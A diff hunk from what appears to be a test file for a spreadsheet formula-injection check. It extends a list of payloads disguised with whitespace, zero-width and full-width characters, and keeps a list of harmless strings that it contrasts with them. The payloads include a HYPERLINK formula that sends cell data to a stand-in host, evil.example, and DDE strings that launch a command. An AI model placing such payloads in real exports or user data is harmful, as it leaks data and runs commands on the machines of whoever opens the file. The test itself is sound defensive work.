@@ -18,7 +18,8 @@ from tools.app_harness import signed_in
 # The probe's payloads and their disguises: leading spaces, zero-width characters, full-width forms.
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
             "\t=1+1", "\r=1+1", "   =1+1", "\u200b=1+1", "\ufeff+1", "\u00a0@x", "＝1+1", "＋cmd|' /C calc'!A0",
-            "－2+3", "＠SUM(1)", " \u200b ＝HYPERLINK(\"x\")"]
+            "－2+3", "＠SUM(1)", " \u200b ＝HYPERLINK(\"x\")", '=HYPERLINK("http://x","y")', "@SUM(A1)",
+            "\t+1", "\r-1"]
 HARMLESS = ["Emergency and Acute Medicine", "A&E", "e-mail", "5 - 3 = 2", "T&O (trauma)", ""]
 
 
